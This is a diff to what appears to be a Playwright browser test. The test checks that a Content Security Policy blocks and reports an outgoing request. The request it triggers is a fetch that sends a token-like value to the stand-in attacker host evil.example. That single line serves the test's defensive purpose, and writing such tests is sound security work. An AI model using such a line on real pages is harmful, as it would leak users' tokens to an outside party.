@@ -199,7 +199,11 @@ test('a violation of the policy is reported @engines', async ({ page, pageConsol
   await expect(page.getByRole('heading', { name: 'Login to your account' })).toBeVisible();
   await loaded;
   const code = "fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})";
-  await page.evaluate(`void setTimeout(() => { ${code} })`);
+  // Firefox logs a refusal before the page hears of it.
+  await page.evaluate(`new Promise((resolve) => {
+    addEventListener('securitypolicyviolation', () => resolve(), { once: true });
+    setTimeout(() => { ${code} });
+  })`);
   await expect.poll(() => pageConsole.lines.join()).toContain('connect-src https://evil');
   await page.goto('about:blank');
   const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
